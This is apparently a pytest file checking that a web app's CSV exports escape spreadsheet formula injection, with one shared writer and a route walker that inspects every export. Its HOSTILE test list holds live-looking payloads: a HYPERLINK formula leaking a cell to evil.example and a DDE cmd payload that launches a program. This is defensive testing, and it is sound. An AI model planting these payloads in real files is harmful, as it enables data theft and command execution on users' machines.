"""Every CSV cell is safe to open in a spreadsheet: one writer (partners.safe_csv) for every
export, and every export the app serves, found by walking its routes, carries hostile names
only as marked text."""

import csv
import io
import re
from pathlib import Path

import pytest

from partners.safe_csv import FORMULA_START, cell, csv_text, unquote
from placement.auth.models import Role
from placement.extensions import db
from tests.test_access import records  # noqa: F401 - the fixture with real record ids
from tests.test_bad_input import Walker, build, routes

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Open")', "=1+1", "+1 555 0100", "-2+3",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "=cmd|' /C calc'!A0",
]
ROOT = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back_unchanged(text):
    assert cell(text) == "'" + text
    assert unquote(cell(text)) == text


@pytest.mark.parametrize("value, written", [
    (None, ""), (True, "yes"), (False, "no"), (0, "0"), (-5, "-5"), (2.5, "2.5"),
    ("Harbor House", "Harbor House"), ("'quoted", "'quoted"), ("a=b", "a=b"),
])
def test_plain_values_are_written_as_they_are(value, written):
    assert cell(value) == written


def test_the_writer_marks_every_cell_header_included():
    text = csv_text(["=header"], [["=a", 1], ["b", "@c"]])
    assert list(csv.reader(io.StringIO(text))) == [["'=header"], ["'=a", "1"], ["b", "'@c"]]


def test_there_is_one_csv_writer():
    writers = [str(path.relative_to(ROOT)) for folder in ("placement", "partners")
               for path in (ROOT / folder).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())]
    assert writers == ["partners/safe_csv.py"]


def risky_cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row
            if value.startswith(FORMULA_START)]


@pytest.mark.parametrize("backend", ["sqlite"])  # what a cell holds is not the database's
def test_every_csv_export_writes_hostile_names_as_text(
        app, make_user, records, create_program, create_shelter, create_hotel,  # noqa: F811
        make_donor, make_lot, login):
    program = create_program("ihg")
    program.name = HOSTILE[0]
    create_shelter(name=HOSTILE[1], intake_contact=HOSTILE[2], address=HOSTILE[3])
    create_shelter(name=HOSTILE[5], intake_contact=HOSTILE[9])
    create_hotel(name=HOSTILE[4])
    donor_user = make_user(Role.DONOR)
    make_lot(50_000, program="ihg", donor=make_donor(HOSTILE[7], user=donor_user))
    db.session.commit()

    walker = Walker(app, make_user)
    walker.clients[Role.DONOR] = login(donor_user)
    exports = {}
    for rule, role in routes(app):
        if "GET" in rule.methods:
            response = walker.open(role, rule.endpoint, build(rule, records))
            if response is not None and response.mimetype == "text/csv":
                exports[rule.endpoint] = response.text
    assert not walker.failures, walker.report()
    assert set(exports) >= {"places.export_shelters_csv", "places.export_hotels_csv",
                            "donors.report_csv"}
    for endpoint, text in exports.items():
        assert risky_cells(text) == [], endpoint
    assert "'=1+1" in exports["places.export_shelters_csv"]
    assert "'+1 555 0100" in exports["places.export_shelters_csv"]
    assert "'@SUM(1+1)" in exports["places.export_hotels_csv"]
    assert "'=HYPERLINK(" in exports["donors.report_csv"]
